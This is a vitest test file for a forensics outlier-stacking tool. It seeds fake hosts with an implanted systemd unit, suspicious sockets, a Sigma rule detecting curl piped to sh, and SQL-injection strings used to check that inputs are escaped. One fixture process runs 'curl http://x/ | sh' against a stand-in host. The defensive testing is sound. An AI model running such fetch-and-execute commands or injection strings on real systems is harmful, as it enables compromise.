/** Stacking: which one of many differs, and that its score says why. Facts are put straight into the lake. */
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Period } from '../hunt/index.ts';
import { type ForensicsLab, openForensicsLab } from './__fixtures__/lab.ts';
import { createCollection } from './collect.ts';
import { encodeFacts, insertFacts } from './lake-facts.ts';
import type { Outlier, StackInput } from './stack/types.ts';
import { stackFacts } from './stack.ts';
import { addLeftovers } from './store-hosts.ts';
import type { Fact, HostFinding } from './types.ts';

const webs = Array.from({ length: 40 }, (_, index) => `web-${index + 1}`);
const dbs = ['db-1', 'db-2', 'db-3'];
const window: Period = { from: new Date('2023-09-28T00:00:00Z'), to: new Date('2023-12-01T00:00:00Z') };
const before = new Date('2023-03-01T00:00:00Z');
const during = new Date('2023-11-22T14:18:00Z');

const fact = (artifact: string, key: string, value: string, more: Partial<Fact> = {}): Fact => ({
  artifact,
  key,
  value,
  detail: {},
  technique: '',
  at: before,
  owner: 'root',
  path: key.startsWith('/') ? key : '',
  sha256: '',
  ...more,
});

const finding = (of: Fact, score: number): HostFinding => ({
  rule: 'test-rule',
  title: 'a test',
  why: `${of.key} looks odd`,
  technique: 'T1543.002',
  score,
  fact: of,
});

/** What every host of a role has, and what is by its nature each one's own. */
const common = (host: string): Fact[] => [
  ...Array.from({ length: 60 }, (_, index) => fact('packages', `package-${index}`, '1.0')),
  ...Array.from({ length: 20 }, (_, index) =>
    fact('systemd', `/usr/lib/systemd/system/unit-${index}.service`, 'abc', { technique: 'T1543.002' }),
  ),
  fact('identity', 'machine id', `own value of ${host}`),
  fact('privileged', '/opt/agent/helper', 'mode 4755', { technique: 'T1548.001' }),
];

let lab: ForensicsLab;
let collectionId: string;
beforeAll(async () => {
  const hosts = [
    ...webs.map((name) => ({ name, role: 'web' })),
    ...dbs.map((name) => ({ name, role: 'db' })),
    { name: 'dead-1', role: 'web' },
  ];
  lab = await openForensicsLab(hosts, {});
  const what = { selection: {}, cost: 'full' as const, artifacts: [], since: null };
  collectionId = (await createCollection(lab.context, lab.incident.id, what)).id;
  const texts = [...webs, ...dbs].map((host) => {
    const facts = [...common(host), ...(special.get(host) ?? [])].filter(
      ({ key }) => !(host === 'web-9' && key === 'package-7'),
    );
    const helper = facts.find(({ key }) => key === '/opt/agent/helper');
    const implant = facts.find(({ key }) => key === implantKey);
    const findings = [...(helper ? [finding(helper, 86)] : []), ...(implant ? [finding(implant, 70)] : [])];
    const artifacts = ['processes', 'packages', 'systemd', 'identity', 'privileged', 'sockets', 'cron'].map(
      (artifact) => ({ artifact, state: 'collected' as const, why: '', bytes: 1, truncated: false }),
    );
    const origin = {
      collectionId,
      load: 'lod_one',
      host,
      role: host.startsWith('web') ? 'web' : 'db',
      site: 'ams',
      environment: 'production',
    };
    return encodeFacts(origin, { facts, artifacts }, findings).text;
  });
  await insertFacts(lab.lake, texts);
});
afterAll(() => lab.close());

const implantKey = '/etc/systemd/system/jvm-agent.service';
const special = new Map<string, Fact[]>([
  [
    'web-7',
    [fact('systemd', implantKey, 'evil', { technique: 'T1543.002', at: during, sha256: 'e'.repeat(64) })],
  ],
  ['web-8', [fact('packages', 'nmap', '7.93')]],
  ['web-11', [fact('sockets', 'tcp 23.105.182.19:443', '/usr/bin/java', { technique: 'T1071' })]],
  ['web-12', [fact('sockets', 'tcp 198.16.74.204:8443', '/usr/bin/java', { technique: 'T1071' })]],
  [
    'web-13',
    [
      fact('sockets', 'tcp 198.16.74.20:8443', '/usr/bin/java'),
      fact('sockets', 'tcp 123.105.182.19:443', 'x'),
    ],
  ],
  ['web-14', [fact('cron', '/etc/cron.d/a', 'x', { technique: 'T1053.003', owner: 'svc_exposed' })]],
  [
    'web-20',
    [
      fact('processes', '/usr/bin/dash uid 0', 'sh -c', {
        detail: { exe: '/usr/bin/dash', command: 'sh -c CURL http://x/ | sh' },
      }),
    ],
  ],
  [
    'web-21',
    [
      fact('processes', '/usr/bin/curl uid 0', 'curl', {
        detail: { exe: '/usr/bin/curl', command: 'curl http://x/' },
      }),
    ],
  ],
  ['db-2', [fact('cron', '/etc/cron.d/backup2', 'y', { technique: 'T1053.003' })]],
]);

const stack = async (more: Partial<StackInput> = {}): Promise<Outlier[]> =>
  (
    await stackFacts(lab.context, lab.incident, {
      incidentId: lab.incident.id,
      collectionId,
      window,
      limit: 200,
      ...more,
    })
  ).outliers;

const find = (outliers: Outlier[], host: string, key?: string) =>
  outliers.find((one) => one.host === host && (key === undefined || one.key === key));
const kinds = (one: Outlier | undefined) => one?.reasons.map(({ kind }) => kind).sort();

test('what one of many has, what changed in the window, and what stood out add up, and are said in words', async () => {
  const outliers = await stack();
  const implant = find(outliers, 'web-7');
  expect(implant).toMatchObject({
    key: implantKey,
    have: 1,
    peers: 40,
    fleetWide: false,
    technique: 'T1543.002',
  });
  expect(kinds(implant)).toEqual(['finding', 'rare', 'recent']);
  expect(implant?.reasons.find(({ kind }) => kind === 'rare')?.why).toBe(
    '1 of 40 systems of role web has it',
  );
  expect(implant?.reasons.find(({ kind }) => kind === 'finding')?.why).toBe(`${implantKey} looks odd`);
  const together = 1 - implant!.reasons.reduce((left, { points }) => left * (1 - points / 100), 1);
  expect(implant?.score).toBeCloseTo(together * 100, -1);
  expect(kinds(find(outliers, 'web-8'))).toEqual(['rare']);
  expect(find(outliers, 'web-8')!.score).toBeLessThan(implant!.score);
});

test('a finding that every peer has counts little; a value of each host’s own is no outlier', async () => {
  const outliers = await stack();
  const helper = find(outliers, 'web-1', '/opt/agent/helper');
  expect(helper).toMatchObject({ have: 40, peers: 40 });
  expect(helper!.score).toBeLessThanOrEqual(15);
  expect(outliers.filter(({ key }) => key === 'machine id')).toEqual([]);
});

test('what nearly all peers have and one has not', async () => {
  const missing = find(await stack(), 'web-9', 'package-7');
  expect(missing).toMatchObject({ artifact: 'packages', have: 39, peers: 40, value: '' });
  expect(missing?.reasons).toMatchObject([
    { kind: 'missing', why: 'missing here; 39 of 40 systems of role web have it' },
  ]);
});

test('indicators of the advisory: an address, an address in a range; not one that only looks alike', async () => {
  const outliers = await stack();
  for (const host of ['web-11', 'web-12']) expect(kinds(find(outliers, host)), host).toContain('indicator');
  expect(find(outliers, 'web-11')?.reasons[0]?.why).toContain('ipv4 23.105.182.19');
  for (const one of outliers.filter(({ host }) => host === 'web-13'))
    expect(kinds(one)).not.toContain('indicator');
});

test('processes that Sigma rules describe; rules about something else, and bad ones, are said', async () => {
  const file = join(lab.domain.folder, 'rules.yml');
  await writeFile(
    file,
    [
      'title: Downloader',
      'id: 11111111-1111-4111-8111-111111111111',
      'level: high',
      'logsource: { product: linux, category: process_creation }',
      "detection: { selection: { CommandLine|contains|all: [curl, '| sh'] }, condition: selection }",
      '---',
      'title: Elsewhere',
      'id: 22222222-2222-4222-8222-222222222222',
      'level: low',
      'logsource: { product: windows, category: process_creation }',
      'detection: { selection: { Image: x }, condition: selection }',
      '---',
      'title: Broken',
      'id: 33333333-3333-4333-8333-333333333333',
      'level: low',
      'logsource: { product: linux, category: process_creation }',
      'detection: { selection: { Image|nonsense: x }, condition: selection }',
    ].join('\n'),
  );
  const input = { incidentId: lab.incident.id, collectionId, window, limit: 200, sigma: [file] };
  const report = await stackFacts(lab.context, lab.incident, input);
  const outlier = find(report.outliers, 'web-20');
  expect(kinds(outlier)).toContain('indicator');
  expect(outlier?.reasons[0]).toMatchObject({ points: 85, why: 'matches Sigma rule Downloader (high)' });
  expect(
    find(report.outliers, 'web-21')
      ?.reasons.map(({ why }) => why)
      .join(),
  ).not.toContain('Sigma');
  expect(report.notes).toContain('1 Sigma rule is not about processes of Linux');
  expect(report.notes.some((note) => note.startsWith('Sigma rule not used: Broken'))).toBe(true);
});

test('owned by a principal whose credential is exposed', async () => {
  const { db } = lab.context;
  await db
    .insertInto('credential')
    .values({
      id: 'crd_x',
      ref: 'core/password/svc_exposed',
      system: 'core',
      kind: 'password',
      class: 'password',
      name: 'svc_exposed',
      created_at: new Date(),
      updated_at: new Date(),
    } as never)
    .execute();
  await db
    .insertInto('exposure')
    .values({
      id: 'exp_x',
      incident_id: lab.incident.id,
      credential_id: 'crd_x',
      created_at: new Date(),
    } as never)
    .execute();
  await db
    .insertInto('exposure_reason')
    .values({
      exposure_id: 'exp_x',
      kind: 'precaution',
      source: 'test',
      explanation: 'test',
      at: new Date(),
    } as never)
    .execute();
  const outlier = find(await stack(), 'web-14');
  expect(kinds(outlier)).toEqual(['owner', 'rare']);
  expect(outlier?.reasons.find(({ kind }) => kind === 'owner')?.why).toBe(
    'owned by svc_exposed: the credential svc_exposed is exposed',
  );
});

test('too few peers: the whole fleet is compared, and the words say so', async () => {
  const outlier = find(await stack(), 'db-2');
  expect(outlier).toMatchObject({ fleetWide: true, have: 1, peers: 43 });
  expect(outlier?.reasons[0]?.why).toBe('1 of 43 systems has it');
});

test('a known-good host is subtracted; role, artifact and host narrow it', async () => {
  expect(find(await stack({ baseline: ['web-7'] }), 'web-7', implantKey)).toBeUndefined();
  expect(new Set((await stack({ role: 'db' })).map(({ role }) => role))).toEqual(new Set(['db']));
  expect(new Set((await stack({ artifact: 'packages' })).map(({ artifact }) => artifact))).toEqual(
    new Set(['packages']),
  );
  expect(new Set((await stack({ host: 'web-9' })).map(({ host }) => host))).toEqual(new Set(['web-9']));
});

test('rows of an attempt that was broken off do not count; hosts without facts are counted', async () => {
  const origin = { collectionId, load: 'lod_dead', host: 'web-8', role: 'web', site: '', environment: '' };
  await insertFacts(lab.lake, [
    encodeFacts(
      origin,
      { facts: [fact('systemd', '/etc/systemd/system/ghost.service', 'x')], artifacts: [] },
      [],
    ).text,
  ]);
  expect(find(await stack(), 'web-8', '/etc/systemd/system/ghost.service')).toBeDefined();
  await addLeftovers(lab.context.db, collectionId, [{ host: 'web-8', load: 'lod_dead' }]);
  expect(find(await stack(), 'web-8', '/etc/systemd/system/ghost.service')).toBeUndefined();
  const report = await stackFacts(lab.context, lab.incident, {
    incidentId: lab.incident.id,
    collectionId,
    window,
    limit: 1,
  });
  expect(report).toMatchObject({ hosts: 43, withoutFacts: 1 });
  expect(report.outliers).toHaveLength(1);
  expect(report.more).toBeGreaterThan(5);
});

test.each(["'", '\\', "') OR 1=1 --", '{collection:String}', '\u0000', '%'])(
  'hostile words are only words: %j',
  async (word) => {
    expect(await stack({ role: word })).toEqual([]);
    expect(await stack({ artifact: word })).toEqual([]);
    expect(await stack({ host: word })).toEqual([]);
    expect((await stack({ baseline: [word] })).length).toBeGreaterThan(3);
  },
);
